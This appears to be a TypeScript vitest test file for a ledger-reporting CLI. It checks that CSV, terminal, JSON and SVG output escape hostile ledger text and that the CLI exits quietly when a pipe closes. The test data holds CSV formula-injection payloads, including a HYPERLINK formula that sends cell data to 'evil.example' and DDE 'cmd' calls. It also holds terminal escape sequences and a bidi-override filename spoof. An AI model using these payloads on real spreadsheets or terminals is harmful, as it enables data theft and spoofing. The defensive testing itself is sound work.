/**
 * Nothing from a ledger reaches an output unescaped (issue 14, defects 17–19): CSV cells that a
 * spreadsheet would run as formulas, control and bidi characters on a terminal, characters XML
 * does not allow in an SVG, and a reader that closes the pipe early.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { csvField } from "../src/reports/format.js";
import { runCli, spawnCli } from "./helpers.js";

const root = fileURLToPath(new URL("..", import.meta.url));
const dir = mkdtempSync(join(tmpdir(), "pd-output-safety-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const cli = runCli;

function ledgerFile(name: string, accounts: unknown[]): string {
  const file = join(dir, name);
  writeFileSync(file, JSON.stringify({ accounts }));
  return file;
}

/** One charge for 2024-01, never paid: on 2026-12-20 its limitation date (2027-01-01) is near, so the report lists it. */
const oldDebt = (id: string, unit: string, owner: string, chargeId: string) => ({
  id,
  segment: "residential",
  unit,
  owner: { name: owner },
  charges: [{ id: chargeId, period: "2024-01", dueOn: "2024-01-01", amountMinor: 30000 }],
});

/** RFC 4180: fields split on commas and CRLF, quoted fields may hold both, `""` is a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(field), (field = "");
    else if (c === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += c;
  }
  if (field !== "" || row.length > 0) row.push(field), rows.push(row);
  return rows;
}

// What spreadsheets run as a formula (OWASP, CSV injection), in each column a ledger fills.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "+1",
  "@A1",
  "-1",
  "\t@SUM(A1)",
  "=cmd|'/C notepad'!A1",
];

describe("report --format csv", () => {
  it("#14.17 neutralises the 14 formula cells of a ledger: none begins with = + - @ TAB or CR, each is the text with a ' in front", async () => {
    // 3 accounts × (account, unit, owner, charge) in the limitation section, and 1 skipped account (account, reason).
    const [f0, f1, f2, f3, f4, f5, f6, f7, f8, f9, f10, f11] = FORMULAS as [string, string, string, string, string, string, string, string, string, string, string, string];
    const skippedId = "=HYPERLINK(\"http://evil.example\")";
    const ledger = ledgerFile("formulas.json", [
      oldDebt(f0, f1, f2, f3),
      oldDebt(f4, f5, f6, f7),
      oldDebt(f8, f9, f10, f11),
      { id: skippedId, segment: "residential", charges: [{ id: "c1", dueOn: "2026-13-01", amountMinor: 100 }] },
    ]);
    // One table per CSV: the limitation and skipped sections, each after its header row.
    const section = async (name: string) => {
      const r = await cli("report", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "csv", "--section", name);
      expect(r.code, r.err).toBe(3);
      return parseCsv(r.out).slice(1);
    };
    const debts = await section("limitation");
    const skipped = await section("skipped");
    const ledgerCells = [...debts.flatMap((row) => row.slice(0, 4)), ...skipped.flatMap((row) => row.slice(0, 2))];
    expect(ledgerCells).toHaveLength(14);
    for (const cell of ledgerCells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Neutralised, not altered: the ' and then the ledger's text, as OWASP recommends.
    expect(debts.map((row) => row.slice(0, 4)).sort()).toEqual([[f0, f1, f2, f3], [f4, f5, f6, f7], [f8, f9, f10, f11]].map((cells) => cells.map((c) => `'${c}`)).sort());
    expect(skipped[0]![0]).toBe(`'${skippedId}`);
    expect(skipped[0]![1]!.startsWith(`'${skippedId}: `)).toBe(true);
  });

  it("#14.17 keeps numbers numbers: a negative amount is not a formula and gets no '", () => {
    expect(csvField(-1250)).toBe("-1250");
    expect(csvField("-12.50", "number")).toBe("-12.50");
    expect(csvField("-12.50")).toBe(`"'-12.50"`);
    expect(csvField("＝1+1")).toBe(`"'＝1+1"`); // full-width: some spreadsheets in CJK locales read it as a formula
    expect(csvField("A-1201")).toBe("A-1201");
  });
});

const ESC = "\x1b";
const BEL = "\x07";
const HOSTILE_NAME = `Wang${ESC}]0;owned${BEL}${ESC}[2J\u202Egnp.exe`;

describe("control characters from a ledger on the terminal", () => {
  it("#14.18 an account id with a newline and a forged 'skipped' line produces exactly one skipped line", async () => {
    for (const id of ["A-1\n skipped X-1: forged", "A-1\nskipped X-1: forged", "A-1\rskipped X-1: forged"]) {
      const ledger = ledgerFile("forged.json", [{ id, segment: "residential", charges: [{ id: "c1", period: "2026-02", dueOn: "2026-02-30", amountMinor: 100 }] }]);
      for (const command of ["plan", "report"]) {
        const r = await cli(command, "--ledger", ledger, "--as-of", "2026-04-25");
        expect(r.code).toBe(3);
        // What a reader (or grep ^skipped) takes for a skipped account: a line that begins with the word.
        const lines = r.err.split(/[\r\n]/).filter((l) => /^\s*skipped/.test(l));
        expect(lines, `${command} ${JSON.stringify(id)}: ${r.err}`).toHaveLength(1);
        expect(lines[0]).toMatch(/^skipped A-1\\[nr] ?skipped X-1: forged/);
      }
    }
  });

  it("#14.18 ESC, BEL and bidi overrides in an owner name and ids are shown as visible escapes by plan, explain and report", async () => {
    const id = `A-1${ESC}[31m`;
    const ledger = ledgerFile("hostile.json", [{ ...oldDebt(id, `U${BEL}1`, HOSTILE_NAME, `c${ESC}1`) }]);
    const runs = [
      await cli("plan", "--ledger", ledger, "--as-of", "2026-12-20"),
      await cli("explain", "--ledger", ledger, "--account", id, "--as-of", "2026-12-20"),
      await cli("report", "--ledger", ledger, "--as-of", "2026-12-20"),
      await cli("report", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "csv", "--section", "limitation"),
    ];
    for (const r of runs) {
      expect(r.code, r.err).toBe(0);
      // CSV ends its records with CRLF (RFC 4180); a lone CR is still caught.
      expect((r.out + r.err).replace(/\r\n/g, "\n")).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    }
    expect(runs[0]!.out).toContain("A-1\\x1b[31m");
    expect(runs[2]!.out).toContain("Wang\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe");
  });

  it("#14.18 JSON output keeps the exact text and carries no raw control or bidi character", async () => {
    const id = `A-1${ESC}\u009b2J\u202E`;
    const ledger = ledgerFile("hostile-json.json", [{ ...oldDebt(id, "U1", HOSTILE_NAME, "c1") }]);
    for (const argv of [
      ["plan", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "json"],
      ["report", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "json"],
    ]) {
      const r = await cli(...argv);
      expect(r.code, r.err).toBe(0);
      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
      expect(r.out).toContain(JSON.stringify(id).slice(1, -1).replace("\u009b", "\\u009b").replace("\u202E", "\\u202e"));
    }
    const plan = JSON.parse((await cli("plan", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "json")).out) as { accountId: string }[];
    expect(plan.map((a) => a.accountId)).toContain(id);
    const report = JSON.parse((await cli("report", "--ledger", ledger, "--as-of", "2026-12-20", "--format", "json")).out) as { limitation: { debts: { ownerName: string }[] } };
    expect(report.limitation.debts[0]!.ownerName).toBe(HOSTILE_NAME);
  });
});

/** XML 1.0 (§2.2 Char, §2.3 names, §2.4 character data): a strict well-formedness check of what the timeline writes. */
function xmlProblems(xml: string): string[] {
  const problems: string[] = [];
  for (const ch of xml) {
    const c = ch.codePointAt(0)!;
    const ok = c === 0x9 || c === 0xa || c === 0xd || (c >= 0x20 && c <= 0xd7ff) || (c >= 0xe000 && c <= 0xfffd) || (c >= 0x10000 && c <= 0x10ffff);
    if (!ok) problems.push(`character U+${c.toString(16).padStart(4, "0")} is not allowed in XML 1.0`);
  }
  // Every tag closes in order; every & starts an entity; no < inside text or attribute values.
  const stack: string[] = [];
  const token = /<!--[\s\S]*?-->|<\?[\s\S]*?\?>|<(\/?)([A-Za-z_][\w.:-]*)((?:\s+[A-Za-z_][\w.:-]*\s*=\s*(?:"[^"<]*"|'[^'<]*'))*)\s*(\/?)>|<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)/g;
  for (const m of xml.matchAll(token)) {
    if (m[0] === "<" || m[0] === "&") problems.push(`stray ${m[0]} at ${m.index}`);
    else if (m[2] && m[1]) {
      if (stack.pop() !== m[2]) problems.push(`</${m[2]}> closes nothing open at ${m.index}`);
    } else if (m[2] && !m[4]) stack.push(m[2]);
  }
  if (stack.length > 0) problems.push(`unclosed: ${stack.join(", ")}`);
  return problems;
}

describe("timeline SVG for hostile ledger text", () => {
  it("#14.18 an owner name with ESC and BEL still gives well-formed XML 1.0, with the text kept where XML allows", async () => {
    const id = `B-1${BEL}"<x>'&`;
    const ledger = ledgerFile("svg.json", [{ ...oldDebt(id, `U${ESC}1`, HOSTILE_NAME, "c1"), holds: [{ type: "manual", id: `h${ESC}1`, from: "2026-12-01", scope: "legal", reason: `r${BEL}` }] }]);
    const out = join(dir, "hostile.svg");
    const r = await cli("timeline", "--ledger", ledger, "--account", id, "--as-of", "2026-12-20", "--out", out);
    expect(r.code, r.err).toBe(0);
    const svg = readFileSync(out, "utf8");
    expect(xmlProblems(svg)).toEqual([]);
    expect(svg).toContain("Wang\uFFFD]0;owned\uFFFD\uFFFD[2J\uFFFDgnp.exe");
    expect(svg).toContain("B-1\uFFFD&quot;&lt;x&gt;&#39;&amp;".replace("&quot;", '"').replace("&#39;", "'"));
  });

  it("#14.18 the well-formedness check itself rejects what the unescaped SVG held (its mutant)", () => {
    expect(xmlProblems(`<svg><text>Wang${ESC}]0;x${BEL}</text></svg>`)).toHaveLength(2);
    expect(xmlProblems("<svg><text>a < b & c</text></svg>")).toHaveLength(2);
    expect(xmlProblems("<svg><text>ok</svg>")).not.toEqual([]);
    expect(xmlProblems('<svg a="1"><text>ok &amp; fine</text><g/></svg>')).toEqual([]);
  });
});

describe("a reader that stops early", () => {
  const CLI = join(root, "dist/cli.js");
  /**
   * The pipe's only reader has opened it and closed it again before the CLI starts, so the CLI's
   * first write meets EPIPE every time (what `| head -1` does as soon as it has its line).
   */
  const closedPipe = (args: string, stream: 1 | 2) => {
    const run = `"${process.execPath}" "${CLI}" ${args}`;
    const redirect = stream === 1 ? `>&4 2>"$d/err"` : `>/dev/null 2>&4`;
    const script =
      `set -e; d=$(mktemp -d); mkfifo "$d/p"; (exec 3<"$d/p") & exec 4>"$d/p"; wait; touch "$d/err"; ` +
      `set +e; ${run} ${redirect}; code=$?; cat "$d/err" >&2; rm -r "$d"; echo "exit $code"`;
    return spawnCli("sh", ["-c", script], { cwd: root });
  };

  it("#14.19 validate into a closed pipe exits quietly: no stack trace, exit 141 as a command killed by SIGPIPE", () => {
    const r = closedPipe("validate policies/residential.json", 1);
    expect(r.stderr).toBe("");
    expect(r.stdout.trim()).toBe("exit 141");
  });

  it("#14.19 a closed stderr is quiet too (an invalid policy's problems go there)", () => {
    const bad = join(dir, "bad-policy.json");
    writeFileSync(bad, JSON.stringify({ extends: "residential", id: "bad", version: "1", stages: [{ id: "x", channels: ["fax"] }] }));
    const r = closedPipe(`validate ${bad}`, 2);
    expect(r.stdout.trim()).toBe("exit 141");
  });

  it("#14.19 validate | head -1, as the issue ran it: one line, no stack trace", () => {
    const r = spawnCli("sh", ["-c", `"${process.execPath}" "${CLI}" validate policies/residential.json | head -1`], { cwd: root });
    expect(r.stdout).toMatch(/^policies\/residential\.json: valid — residential/);
    expect(r.stdout.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).not.toMatch(/EPIPE|at .*\.js:\d+/);
  });
});
